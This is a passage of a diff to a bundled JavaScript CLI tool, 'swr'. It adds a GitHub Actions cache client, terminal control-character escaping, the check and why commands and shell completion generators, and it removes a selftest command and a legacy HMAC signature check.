+            return r.ok && r.signed_download_url && r.matched_key
+                ? { matchedKey: r.matched_key, url: r.signed_download_url }
+                : undefined;
+        }
+        const base = this.env.ACTIONS_CACHE_URL || this.env.ACTIONS_RESULTS_URL || '';
+        const q = `keys=${encodeURIComponent([key, ...restoreKeys].join(','))}&version=${version}`;
+        const res = await (await this.http()).get(new URL(`_apis/artifactcache/cache?${q}`, base).href, {
+            ...this.auth(),
+            Accept: 'application/json;api-version=6.0-preview.1'
+        });
+        const body = await res.readBody();
+        if (res.message.statusCode === 204)
+            return undefined;
+        if (res.message.statusCode !== 200)
+            throw new Error(`cache service answered ${res.message.statusCode ?? '?'}`);
+        const r = JSON.parse(body);
+        return r.cacheKey && r.archiveLocation
+            ? { matchedKey: r.cacheKey, url: r.archiveLocation }
+            : undefined;
+    }
+    /** The newest archive for `key` (or a restore-keys prefix) under any spelling of `abs`. */
+    async find(abs, key, restoreKeys) {
+        const prefix = archivePrefix(abs, this.env);
+        for (const [method, compression] of METHODS) {
+            for (const form of pathForms(abs, this.env)) {
+                const found = await this.ask(key, restoreKeys, cacheVersion([form], method));
+                if (!found)
+                    continue;
+                return {
+                    matchedKey: found.matchedKey,
+                    exact: found.matchedKey === key,
+                    compression,
+                    prefix,
+                    open: () => this.download(found.url)
+                };
+            }
+        }
+        return undefined;
+    }
+    async download(url) {
+        // A signed URL: no token sent to storage, and the URL itself never printed.
+        const res = await (await newHttpClient('swr')).get(url);
+        const status = res.message.statusCode ?? 0;
+        if (status !== 200) {
+            res.message.resume();
+            throw new Error(`the archive download answered ${status}`);
+        }
+        return res.message;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/adapters/actions-cache.ts
+/**
+ * The real Actions cache behind the engine's CacheClient port, for the Action and for the CLI on a
+ * runner. Restores never go through @actions/cache's restoreCache (it extracts with `tar -P` into
+ * the workspace): cache-service.ts finds and streams the archive and the engine unpacks it. The
+ * client is loaded only to save and to look up, with a private temp directory when RUNNER_TEMP is
+ * unset and its workflow commands kept off a terminal.
+ */
+
+
+
+
+
+/** The cache service is reachable from this process (v2 results service, or the v1 cache URL). */
+function cacheServiceAvailable(env) {
+    return Boolean(env.ACTIONS_RUNTIME_TOKEN && (env.ACTIONS_RESULTS_URL || env.ACTIONS_CACHE_URL));
+}
+/** Saves are off in read-only cache mode (ACTIONS_CACHE_MODE=read, or none). */
+function cacheReadOnly(env) {
+    return env.ACTIONS_CACHE_MODE === 'read' || env.ACTIONS_CACHE_MODE === 'none';
+}
+/** The same client, calling `before` ahead of every request (the Action closes its log shield). */
+function withBefore(client, before) {
+    return {
+        find: (abs, key, restoreKeys) => (before(), client.find(abs, key, restoreKeys)),
+        lookup: (abs, key) => (before(), client.lookup(abs, key)),
+        save: (abs, key) => (before(), client.save(abs, key))
+    };
+}
+/** A workflow command's message as written (%25, %0D, %0A decoded), on one line. */
+function unescapeCommand(msg) {
+    return msg
+        .replace(/%0D|%0A/gi, ' ')
+        .replace(/%25/g, '%')
+        .trim();
+}
+let actions_cache_loaded;
+async function client() {
+    actions_cache_loaded ??= await Promise.all(/* import() */[__nccwpck_require__.e(942), __nccwpck_require__.e(423)]).then(__nccwpck_require__.bind(__nccwpck_require__, 9423));
+    return actions_cache_loaded;
+}
+function actionsCacheClient(opts) {
+    // Absolute paths: the client resolves relative ones against the process's cwd but archives them
+    // relative to GITHUB_WORKSPACE, and the cache version hashes the path strings as given.
+    const spell = (abs) => external_node_path_default().resolve(abs);
+    const onRunner = opts.env.GITHUB_ACTIONS === 'true';
+    const quietly = async (fn) => {
+        // The client reads RUNNER_TEMP from process.env and falls back to /home/actions/temp.
+        const temp = process.env.RUNNER_TEMP
+            ? undefined
+            : external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-cache-'));
+        if (temp)
+            process.env.RUNNER_TEMP = temp;
+        try {
+            return await muted(fn);
+        }
+        finally {
+            if (temp) {
+                delete process.env.RUNNER_TEMP;
+                external_node_fs_default().rmSync(temp, { recursive: true, force: true });
+            }
+        }
+    };
+    const muted = async (fn) => {
+        if (!opts.logToStderr)
+            return fn();
+        const write = process.stdout.write.bind(process.stdout);
+        const stderrWrite = process.stderr.write.bind(process.stderr);
+        // The client's debug lines only matter when the runner asks for them (RUNNER_DEBUG=1).
+        const debug = opts.env.RUNNER_DEBUG === '1';
+        process.stdout.write = ((chunk) => {
+            const text = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
+            if (!onRunner) {
+                // A terminal gets swr's own line for what the client warns about, no workflow commands.
+                for (const m of text.matchAll(/^::(?:warning|error)[^:]*::(.*)$/gm))
+                    opts.onNote?.(`cache: ${unescapeCommand(m[1] ?? '')}`);
+                return true;
+            }
+            const kept = debug
+                ? text
+                : text
+                    .split(/(?<=\n)/)
+                    .filter(l => !l.startsWith('::debug::'))
+                    .join('');
+            return kept ? stderrWrite(kept) : true;
+        });
+        try {
+            return await fn();
+        }
+        finally {
+            process.stdout.write = write;
+        }
+    };
+    const service = new CacheService(opts.env);
+    const note = (what, err) => opts.onNote?.(`cache ${what}: ${err instanceof Error ? err.message : String(err)}`);
+    return {
+        async find(abs, key, restoreKeys) {
+            try {
+                return await service.find(abs, key, restoreKeys);
+            }
+            catch (err) {
+                note(`restore of ${key} failed`, err);
+                return undefined;
+            }
+        },
+        async lookup(abs, key) {
+            try {
+                const cache = await client();
+                return ((await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }))) ===
+                    key);
+            }
+            catch (err) {
+                note(`lookup of ${key} failed`, err);
+                return false;
+            }
+        },
+        async save(abs, key) {
+            try {
+                const cache = await client();
+                // The client reports "already exists" and "unreachable" alike (-1): ask first.
+                const existing = await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }));
+                if (existing === key)
+                    return 'exists';
+                const id = await quietly(() => cache.saveCache([spell(abs)], key));
+                return id === -1 ? 'failed' : 'saved';
+            }
+            catch (err) {
+                const name = err instanceof Error ? err.name : '';
+                if (name === 'ReserveCacheError' || /already exists/i.test(String(err)))
+                    return 'exists';
+                note(`save of ${key} failed`, err);
+                return 'failed';
+            }
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/cli/cache.ts
+/** The Actions cache as the CLI reaches it: only on a runner, its notes on stderr. */
+
+
+/** The Actions cache when its service is reachable; otherwise cache sources are skipped, said once. */
+function cliCacheClient(m, io) {
+    if (cacheServiceAvailable(io.env)) {
+        return actionsCacheClient({
+            env: io.env,
+            logToStderr: true,
+            onNote: line => void io.stderr.write(`swr: ${line}\n`)
+        });
+    }
+    if (m.body.entries.some(e => restoreSources(e).some(s => typeof s !== 'string'))) {
+        io.stderr.write('swr: cache sources skipped: no Actions cache service here (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN unset)\n');
+    }
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/cli/io.ts
+/**
+ * What a command may touch of the outside world, passed in so tests can run commands in-process
+ * with their own streams and environment.
+ */
+
+
+/**
+ * The real process: its streams, environment, and SIGINT/SIGTERM wired to an abort signal. Any
+ * other command stops at once with 130: it starts nothing that could outlive it, its writes are
+ * atomic, and what it holds (the workspace lock, a walk's temporary files) is let go by exit
+ * handlers. A check of a large tree must not run on for seconds after Ctrl-C.
+ */
+function processIo(argv = process.argv) {
+    const controller = new AbortController();
+    let owns = false;
+    const exitNow = (message, code) => {
+        // As every error: with --json, stdout still ends with one JSON document.
+        if (argv.includes('--json'))
+            process.stdout.write(JSON.stringify({ schema: 'swr.error/1', error: message, exit_code: code }) + '\n');
+        process.stderr.write(`swr: ${message}\n`);
+        process.exit(code);
+    };
+    const onSignal = () => {
+        if (!owns)
+            exitNow('interrupted', errors_EXIT.INTERRUPTED);
+        controller.abort();
+    };
+    // once: a second Ctrl-C falls through to the default handler and ends swr at once. A closed
+    // terminal or a dropped SSH session (SIGHUP) is an interrupt too: recipes are stopped first.
+    process.once('SIGINT', onSignal);
+    process.once('SIGTERM', onSignal);
+    process.once('SIGHUP', onSignal);
+    return {
+        cwd: process.cwd(),
+        env: process.env,
+        home: external_node_os_default().homedir(),
+        stdout: process.stdout,
+        stderr: process.stderr,
+        abort: controller.signal,
+        stop: (message, code) => {
+            if (!owns)
+                exitNow(message, code);
+            process.stderr.write(`swr: ${message}; stopping\n`);
+            controller.abort();
+        },
+        ownInterrupt: () => {
+            owns = true;
+        }
+    };
+}
+/** Colour only on a terminal, never with NO_COLOR (any value) or --no-color. */
+function useColor(io, flag) {
+    return flag && io.stdout.isTTY === true && io.env.NO_COLOR === undefined && io.env.TERM !== 'dumb';
+}
+/** A control or bidi character anywhere in a chunk (the common case has none: pass it through). */
+// eslint-disable-next-line no-control-regex
+const CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
+/** What swr itself writes to a terminal: colour, line erase and carriage return (progress). */
+// eslint-disable-next-line no-control-regex
+const OWN_TTY = /(\x1b\[[0-9;]*m|\x1b\[K|\r|\n)/;
+/**
+ * A stream that shows every control character visibly (`\x1b`, `\r`, `\u202e`) except the line
+ * breaks, and on a terminal swr's own colour and progress sequences. Untrusted strings are
+ * escaped where they are formatted; this catches any that were not, so a file name can never
+ * move the cursor, erase a line or recolour what follows.
+ */
+function guarded(stream) {
+    const tty = stream.isTTY === true;
+    return {
+        ...(stream.isTTY !== undefined ? { isTTY: stream.isTTY } : {}),
+        write(s) {
+            if (typeof s !== 'string' || !CONTROL.test(s))
+                return stream.write(s);
+            const parts = tty ? s.split(OWN_TTY) : s.split(/(\n)/);
+            return stream.write(parts.map((p, i) => (i % 2 === 1 ? p : escapeText(p))).join(''));
+        }
+    };
+}
+/** `io` with stderr (and stdout, unless it carries JSON) guarded. */
+function guardedIo(io, json) {
+    return { ...io, stdout: json ? io.stdout : guarded(io.stdout), stderr: guarded(io.stderr) };
+}
+
+;// CONCATENATED MODULE: ./src/cli/progress.ts
+const GIB = 1024 ** 3;
+const progress_MIB = 1024 ** 2;
+function bytes(n) {
+    return n >= GIB ? `${(n / GIB).toFixed(1)} GiB` : `${(n / progress_MIB).toFixed(0)} MiB`;
+}
+function startProgress(io, label, enabled) {
+    if (!enabled || io.stderr.isTTY !== true)
+        return { update: () => undefined, stop: () => undefined };
+    const t0 = Date.now();
+    let last = 0;
+    let shown = false;
+    return {
+        update(done, total) {
+            const now = Date.now();
+            if (now - t0 < 1000 || now - last < 100)
+                return;
+            last = now;
+            shown = true;
+            const pct = total > 0 ? Math.floor((done / total) * 100) : 100;
+            io.stderr.write(`\r${label}: ${bytes(done)} / ${bytes(total)} (${pct}%)   `);
+        },
+        stop() {
+            if (shown)
+                io.stderr.write('\r\x1b[K');
+        }
+    };
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/check.ts
+/** `swr check` and `swr why`: verify read-only, print the findings, exit 0 healthy / 1 damaged. */
+
+
+
+
+
+
+
+/** One history line: this run's status of every entry checked (for "swr stats" and "swr why"). */
+function recordCheck(report, m, io) {
+    appendHistory(stateDir(io), checkRecord(report, m, runContext(io.env)), historyLimits(io));
+}
+/** For each damaged entry with a pattern of losses in the history, what to change. */
+function historyNotes(report, m, io) {
+    const records = readHistory(stateDir(io)).records.filter(r => r.kind === 'check' && r.manifest === m.file);
+    const notes = new Map();
+    for (const f of report.results) {
+        if (f.status === 'OK')
+            continue;
+        const entry = m.body.entries.find(e => e.id === f.id);
+        const advice = entry && historyAdvice(entry, recentLosses(records, f.id));
+        if (advice)
+            notes.set(f.id, advice);
+    }
+    return notes;
+}
+function checkOptionsOf(flags, io, command) {
+    return {
+        only: flags.only,
+        deep: flags.deep,
+        metaOnly: flags.meta,
+        cache: flags.cache,
+        jobs: flags.jobs,
+        nativeWalk: nativeWalkAllowed(io.env),
+        stateDir: stateDir(io),
+        version: VERSION,
+        command
+    };
+}
+async function withProgress(flags, io, fn) {
+    const progress = startProgress(io, 'hashing', !flags.json && !flags.quiet);
+    try {
+        return await fn(progress.update);
+    }
+    finally {
+        progress.stop();
+    }
+}
+async function checkCommand(flags, io) {
+    const m = loadManifest(manifestLocation(flags, io).file, {
+        workspace: flags.workspace,
+        cwd: io.cwd
+    });
+    const client = flags.cacheLookup ? cliCacheClient(m, io) : undefined;
+    if (flags.cacheLookup && !client)
+        io.stderr.write('swr: --cache-lookup: no Actions cache service here (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN unset)\n');
+    const result = await withProgress(flags, io, onProgress => check(m, {
+        ...checkOptionsOf(flags, io, 'check'),
+        onProgress,
+        // Smoke commands are manifest code: the gate decides, as for recipes.
+        smoke: flags.runSmoke
+            ? { policy: buildPolicy(m, flags, io), callerEnv: io.env, abort: io.abort }
+            : undefined,
+        cacheLookup: client
+    }));
+    const { report, gate } = result;
+    for (const w of gate?.warnings ?? [])
+        io.stderr.write(`swr: warning: ${w}\n`);
+    if (gate && !gate.allowed)
+        io.stderr.write(`swr: smoke commands not run: ${gate.reason}\n`);
+    if (!flags.json)
+        for (const l of report.cache_lookup ?? [])
+            io.stdout.write(`cache ${l.available ? 'saved    ' : 'not saved'} ${l.id}  (${l.key})\n`);
+    if (flags.record)
+        recordCheck(report, m, io);
+    if (flags.json)
+        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
+    else if (!flags.quiet || report.verdict !== 'healthy') {
+        io.stdout.write(renderCheck(report, { color: useColor(io, flags.color), all: flags.all === true }));
+    }
+    return outcomeOf(result).exitCode;
+}
+async function whyCommand(flags, io) {
+    const manifest = loadManifest(manifestLocation(flags, io).file, {
+        workspace: flags.workspace,
+        cwd: io.cwd
+    });
+    const result = await withProgress(flags, io, onProgress => check(manifest, { ...checkOptionsOf(flags, io, 'why'), onProgress }));
+    const report = result.report;
+    if (flags.json) {
+        io.stdout.write(JSON.stringify(report, null, 2) + '\n');
+    }
+    else {
+        const notes = new Map(manifest.body.entries.flatMap(e => (e.note ? [[e.id, e.note]] : [])));
+        io.stdout.write(renderWhy(report, { color: useColor(io, flags.color), all: false }, notes, historyNotes(report, manifest, io)));
+    }
+    return outcomeOf(result).exitCode;
+}
+function registerCheck(program, { io, run }) {
+    trustOptions(checkOptions(program.command('check')))
+        .description('verify every entry (read-only: never runs recipes or smoke commands); exit 1 when damaged')
+        .option('--all', 'list healthy entries too')
+        .option('--cache-lookup', 'report which entries have a cache saved for their exact state (on a runner; downloads nothing)')
+        .option('--record', 'append this check to the survival history (see "swr stats" and "swr why")')
+        .option('--run-smoke', "also run the entries' smoke commands (manifest code: only when its signatures allow)")
+        .action((flags) => run(() => checkCommand(flags, io), { startsProcesses: flags.runSmoke === true }));
+    checkOptions(program.command('why'))
+        .alias('explain')
+        .description('explain each damaged entry: what was found, the likely cause, and the fix')
+        .action((flags) => run(() => whyCommand(flags, io)));
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/completion.ts
+
+const SHELLS = ['bash', 'zsh', 'fish'];
+function optionsOf(cmd) {
+    return cmd.options
+        .filter(o => !o.hidden)
+        .map(o => ({
+        long: o.long,
+        short: o.short,
+        description: o.description,
+        takesValue: o.required || o.optional
+    }));
+}
+/** Every command reachable from the root, aliases included as their own paths. */
+function walk(root) {
+    const nodes = [];
+    const visit = (cmd, at) => {
+        const visible = cmd.commands.filter(c => !c._hidden);
+        nodes.push({
+            path: at,
+            description: cmd.description(),
+            options: optionsOf(cmd),
+            subcommands: visible.flatMap(c => [c.name(), ...c.aliases()].map(name => ({ name, description: c.description() })))
+        });
+        for (const c of visible)
+            for (const name of [c.name(), ...c.aliases()])
+                visit(c, [...at, name]);
+    };
+    visit(root, []);
+    return nodes;
+}
+/** POSIX single quotes: the only character that needs care inside them is the quote itself. */
+function sq(s) {
+    return `'${s.replace(/'/g, `'\\''`)}'`;
+}
+/** A description short enough for a completion menu: up to the first clause, at most 70 chars. */
+function summary(s) {
+    const line = s.split('\n')[0] ?? '';
+    const cut = line.search(/[:;(]/);
+    const text = (cut > 20 ? line.slice(0, cut) : line).trim();
+    if (text.length <= 70)
+        return text;
+    return text.slice(0, text.lastIndexOf(' ', 67)) + '...';
+}
+function flagsOf(node) {
+    return node.options.flatMap(o => [o.long, o.short].filter((f) => !!f));
+}
+function valueFlagsOf(node) {
+    return node.options
+        .filter(o => o.takesValue)
+        .flatMap(o => [o.long, o.short].filter((f) => !!f));
+}
+/**
+ * bash: the command path is the leading words that name subcommands; after it, options of that
+ * command, and file names after an option that takes a value or for positional arguments.
+ */
+function bash(nodes) {
+    const cases = nodes.map(n => {
+        const subs = n.subcommands.map(s => s.name).join(' ');
+        const flags = [...flagsOf(n), '--help'].join(' ');
+        return `    ${sq(n.path.join(' '))}) subs=${sq(subs)}; flags=${sq(flags)}; valued=${sq(valueFlagsOf(n).join(' '))} ;;`;
+    });
+    return `# swr completion for bash: eval "$(swr completion bash)" in ~/.bashrc
+_swr_complete() {
+  local cur=\${COMP_WORDS[COMP_CWORD]} prev=\${COMP_WORDS[COMP_CWORD-1]}
+  local path="" i w subs flags valued next
+  for ((i = 1; i < COMP_CWORD; i++)); do
+    w=\${COMP_WORDS[i]}
+    [[ $w == -* ]] && continue
+    next="\${path:+$path }$w"
+    _swr_node "$next" || break
+    path=$next
+  done
+  _swr_node "$path"
+  if [[ -n $prev && " $valued " == *" $prev "* ]]; then
+    COMPREPLY=($(compgen -f -- "$cur"))
+  elif [[ $cur == -* ]]; then
+    COMPREPLY=($(compgen -W "$flags" -- "$cur"))
+  elif [[ -n $subs ]]; then
+    COMPREPLY=($(compgen -W "$subs" -- "$cur"))
+  else
+    COMPREPLY=($(compgen -f -- "$cur"))
+  fi
+  return 0
+}
+_swr_node() {
+  subs="" flags="" valued=""
+  case "$1" in
+${cases.join('\n')}
+    *) return 1 ;;
+  esac
+}
+complete -o filenames -F _swr_complete swr
+`;
+}
+/** zsh: the bash function through zsh's own bash-completion bridge, which ships with zsh. */
+function zsh(nodes) {
+    return `#compdef swr
+# swr completion for zsh: eval "$(swr completion zsh)" in ~/.zshrc
+(( $+functions[compdef] )) || { autoload -Uz compinit && compinit }
+autoload -U +X bashcompinit && bashcompinit
+${bash(nodes).split('\n').slice(1).join('\n')}`;
+}
+/** fish: one `complete` line per subcommand and option, with its description. */
+function fish(nodes) {
+    const lines = ['# swr completion for fish: swr completion fish | source'];
+    for (const n of nodes) {
+        // The condition: exactly this path has been typed, and nothing deeper.
+        const seen = n.path.map(p => `__fish_seen_subcommand_from ${sq(p)}`);
+        const deeper = n.subcommands.length
+            ? [`not __fish_seen_subcommand_from ${n.subcommands.map(s => sq(s.name)).join(' ')}`]
+            : [];
+        const cond = n.path.length === 0 ? ['__fish_use_subcommand'] : [...seen, ...deeper];
+        const when = sq(cond.join('; and '));
+        for (const s of n.subcommands)
+            lines.push(`complete -c swr -n ${when} -f -a ${sq(s.name)} -d ${sq(summary(s.description))}`);
+        for (const o of n.options) {
+            const parts = ['complete -c swr -n', when];
+            if (o.long)
+                parts.push('-l', sq(o.long.replace(/^--/, '')));
+            if (o.short)
+                parts.push('-s', sq(o.short.replace(/^-/, '')));
+            if (o.takesValue)
+                parts.push('-r', '-F');
+            parts.push('-d', sq(summary(o.description)));
+            lines.push(parts.join(' '));
+        }
+    }
+    return lines.join('\n') + '\n';
+}
+function completionScript(program, shell) {
+    const nodes = walk(program);
+    switch (shell) {
+        case 'bash':
+            return bash(nodes);
+        case 'zsh':
+            return zsh(nodes);
+        case 'fish':
+            return fish(nodes);
+        default:
+            throw new SwrError(`completion: unknown shell "${shell.slice(0, 20)}" (choose ${SHELLS.join(', ')})`, errors_EXIT.BAD_MANIFEST);
+    }
+}
+/** Registered last, so the scripts it prints cover every command registered before it. */
+function registerCompletion(program, { io, run }) {
+    program
+        .command('completion')
+        .description(`print a shell completion script (${SHELLS.join(', ')})`)
+        .argument('<shell>', SHELLS.join(' | '))
+        .addHelpText('after', '\nInstall: eval "$(swr completion bash)" in ~/.bashrc, the same with zsh in ~/.zshrc,\nor swr completion fish | source in ~/.config/fish/config.fish.')
+        .action((shell) => run(() => {
+        io.stdout.write(completionScript(program, shell));
+        return errors_EXIT.HEALTHY;
+    }));
 }
 
 ;// CONCATENATED MODULE: ./src/cli/commands/escrow.ts
@@ -25844,10 +27489,6 @@ function statsCommand(flags, io) {
  * after checking their bytes against the recorded sha256, so they can be restored with no recipe.
  * An editing command: it follows the editing rules and re-signs.
  */
-
-
-
-
 
 
 
@@ -25875,7 +27516,7 @@ function escrowCommand(flags, io) {
         if (done.length === 0) {
             for (const s of skipped)
                 io.stderr.write(`swr: ${escapeText(s.why)}\n`);
-            throw new SwrError('nothing escrowed', EXIT.UNREPAIRABLE);
+            throw new SwrError('nothing escrowed', errors_EXIT.UNREPAIRABLE);
         }
         const saved = await saveEdited(m.file, m.doc, { resign: m.resign, created: false }, io);
         if (flags.json) {
@@ -25896,8 +27537,15 @@ function escrowCommand(flags, io) {
                 ? `signed version ${saved.version}, digest ${saved.digest}\n`
                 : `note: ${saved.note ?? m.note ?? 'unsigned'}\n`);
         }
-        return EXIT.HEALTHY;
+        return errors_EXIT.HEALTHY;
     });
+}
+function registerEscrow(program, { io, run }) {
+    const cmd = withGlobals(program.command('escrow'))
+        .description('embed small files in the manifest (checked against their sha256) so they restore without a recipe')
+        .option('--only <id...>', 'escrow only these entries')
+        .option('--max-bytes <n>', 'largest file to escrow (default 262144)', intOption('--max-bytes', 1, 1024 * 1024));
+    lockOption(approveOption(cmd)).action((flags) => run(() => escrowCommand(flags, io)));
 }
 
 ;// CONCATENATED MODULE: ./src/cli/commands/export-recipes.ts
@@ -25909,10 +27557,6 @@ function escrowCommand(flags, io) {
 
 
 
-
-
-
-
 async function exportRecipesCommand(flags, io) {
     const m = loadManifest(manifestLocation(flags, io).file, {
         workspace: flags.workspace,
@@ -25920,7 +27564,7 @@ async function exportRecipesCommand(flags, io) {
     });
     const gate = await decide(gateInput(m), buildPolicy(m, flags, io));
     if (!gate.allowed)
-        throw new SwrError(`export-recipes: refusing to export recipes: ${gate.reason}`, EXIT.UNREPAIRABLE);
+        throw new SwrError(`export-recipes: refusing to export recipes: ${gate.reason}`, errors_EXIT.UNREPAIRABLE);
     const entries = selectEntries(m.body.entries, flags.only).filter(e => recipesOf(e).length > 0);
     const all = entries.map(e => ({
         id: e.id,
@@ -25951,187 +27595,13 @@ async function exportRecipesCommand(flags, io) {
             .join(' ||\n'));
     }
     io.stdout.write(lines.join('\n') + '\n');
-    return EXIT.HEALTHY;
+    return errors_EXIT.HEALTHY;
 }
-
-;// CONCATENATED MODULE: ./src/cli/commands/selftest.ts
-/**
- * `swr selftest [--max-tier N] [--only ID...] [--allow-empty] [--from-scratch]`: prove recipes are
- * idempotent (doctor may run them many times). Each selected recipe runs twice in a scratch copy
- * of the workspace (never the live one), with HOME pointed into the scratch too; after each run
- * the entry must verify. With --from-scratch the entry is removed first, so the recipe must also
- * recreate it from nothing. Recipes are manifest code,
- * so the gate decides first.
- *
- * The scratch copy carries no symlink that could lead outside it (an absolute target, or one that
- * climbs out): those are left out and named, so neither swr nor a recipe writing through one
- * reaches a file outside the scratch copy. Removing an entry resolves its path without following
- * a symlink in any component; an entry behind one fails without running. Exit 0 all pass, 2 refused or a recipe failed, 3 a recipe ran but
- * left its entry damaged.
- */
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-async function selftestCommand(flags, io) {
-    const live = loadManifest(manifestLocation(flags, io).file, {
-        workspace: flags.workspace,
-        cwd: io.cwd
-    });
-    const selected = selectEntries(live.body.entries, flags.only).filter(e => recipesOf(e).length > 0 && e.tier <= (flags.maxTier ?? 4));
-    if (selected.length === 0 && !flags.allowEmpty) {
-        throw new SwrError('selftest: no entry with a restore recipe matches the selection (pass --allow-empty to accept that)', EXIT.UNREPAIRABLE);
-    }
-    const gate = await decide(gateInput(live), buildPolicy(live, flags, io));
-    if (!gate.allowed)
-        throw new SwrError(`selftest: refusing to run recipes: ${gate.reason}`, EXIT.UNREPAIRABLE);
-    const scratch = external_node_fs_default().mkdtempSync(external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-selftest-'));
-    try {
-        const ws = external_node_path_default().join(scratch, 'workspace');
-        const home = external_node_path_default().join(scratch, 'home');
-        const leftOut = scratchCopy(live.workspace, ws);
-        for (const l of leftOut)
-            io.stderr.write(`swr: selftest: left symlink "${escapeText(l)}" out of the scratch copy: it leads outside the workspace\n`);
-        external_node_fs_default().mkdirSync(home);
-        const m = { ...live, workspace: external_node_fs_default().realpathSync(ws) };
-        const verify = reverifier(m, stateDir(io));
-        const damaged = selected.map(e => ({
-            id: e.id,
-            kind: e.kind,
-            path: e.path,
-            tier: e.tier,
-            status: 'MISSING',
-            reason: 'selftest',
-            detail: 'removed for selftest',
-            recorded: {},
-            found: {},
-            cached: false
-        }));
-        const order = planSteps(planRepair(selected, damaged)).map(s => selected.find(e => e.id === s.id));
-        const outcomes = [];
-        for (const e of order) {
-            if (!e)
-                continue;
-            if (flags.fromScratch) {
-                try {
-                    external_node_fs_default().rmSync(resolveNoFollow(m.workspace, e.path), { recursive: true, force: true });
-                }
-                catch (err) {
-                    if (!(err instanceof SymlinkRefusal))
-                        throw err;
-                    outcomes.push({ id: e.id, passed: false, runs: [`not run: ${err.message}`] });
-                    continue;
-                }
-            }
-            const runs = [];
-            let passed = true;
-            for (const round of [1, 2]) {
-                const r = await runRecipe({
-                    id: e.id,
-                    command: recipesOf(e)[0] ?? 'false',
-                    shell: m.body.shell ?? ['bash', '-c'],
-                    cwd: m.workspace,
-                    env: { ...minimalEnv(io.env, [...(e.env ?? []), ...(e.secret_env ?? [])]), HOME: home },
-                    timeoutMs: (flags.timeout ?? e.timeout_s ?? 1800) * 1000
-                }, {
-                    abort: io.abort,
-                    scrub: makeScrubber((e.secret_env ?? []).flatMap(n => io.env[n] ?? []))
-                });
-                const [after] = await verify([e]);
-                const ok = r.exitCode === 0 && after?.status === 'OK';
-                runs.push(`run ${round}: ${describeResult(r, (flags.timeout ?? e.timeout_s ?? 1800) * 1000)}, entry ${after?.status ?? '?'}${ok ? '' : `: ${escapeText(after?.detail ?? '')}`}`);
-                passed &&= ok;
-            }
-            outcomes.push({ id: e.id, passed, runs });
-        }
-        if (flags.json)
-            io.stdout.write(JSON.stringify({ schema: 'swr.selftest/1', scratch: 'removed', results: outcomes }, null, 2) + '\n');
-        else {
-            for (const o of outcomes)
-                io.stdout.write(`${o.passed ? 'PASS' : 'FAIL'} ${o.id}\n${o.runs.map(r => `  ${r}\n`).join('')}`);
-            io.stdout.write(`${outcomes.filter(o => o.passed).length}/${outcomes.length} recipes idempotent (run twice in a scratch copy; the live workspace was not touched)\n`);
-        }
-        return outcomes.every(o => o.passed) ? EXIT.HEALTHY : EXIT.STILL_DAMAGED;
-    }
-    finally {
-        external_node_fs_default().rmSync(scratch, { recursive: true, force: true });
-    }
-}
-/** Copy the workspace for selftest, leaving out symlinks that may lead outside it (returned). */
-function scratchCopy(from, to) {
-    const root = external_node_fs_default().realpathSync(from);
-    const leftOut = [];
-    external_node_fs_default().cpSync(root, to, {
-        recursive: true,
-        verbatimSymlinks: true,
-        filter: src => {
-            const st = external_node_fs_default().lstatSync(src);
-            if (!st.isSymbolicLink() || linkStaysInside(root, src, external_node_fs_default().readlinkSync(src)))
-                return true;
-            leftOut.push(relativeInside(root, src) ?? src);
-            return false;
-        }
-    });
-    return leftOut;
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
-/**
- * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
- * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
- * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
- * characters of its key file, used as text (not decoded).
- */
-
-/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
-function byCodePoint(a, b) {
-    const x = [...a];
-    const y = [...b];
-    for (let i = 0; i < Math.min(x.length, y.length); i++) {
-        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
-        if (d !== 0)
-            return d;
-    }
-    return x.length - y.length;
-}
-/**
- * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
- * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
- * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
- */
-function pythonCanonical(v) {
-    if (v === null || typeof v !== 'object')
-        return JSON.stringify(v);
-    if (Array.isArray(v))
-        return `[${v.map(pythonCanonical).join(',')}]`;
-    const keys = Object.keys(v).sort(byCodePoint);
-    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
-}
-/** Check a format-2 document's `_sig` against the original tool's key file text. */
-function verifyLegacyHmac(v2, keyFileText) {
-    const sig = v2._sig;
-    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
-        return 'absent';
-    const value = sig.value;
-    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
-        return 'invalid';
-    const body = {};
-    for (const [k, x] of Object.entries(v2))
-        if (k !== '_sig' && k !== '_pksig')
-            body[k] = x;
-    const key = Buffer.from(keyFileText.trim(), 'utf8');
-    const want = (0,external_node_crypto_.createHmac)('sha256', key).update(pythonCanonical(body), 'utf8').digest();
-    return (0,external_node_crypto_.timingSafeEqual)(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
+function registerExportRecipes(program, { io, run }) {
+    trustOptions(withGlobals(program.command('export-recipes')))
+        .description('print the restore recipes as one bash script in tier and dependency order (only when signatures allow)')
+        .option('--only <id...>', 'export only these entries')
+        .action((flags) => run(() => exportRecipesCommand(flags, io)));
 }
 
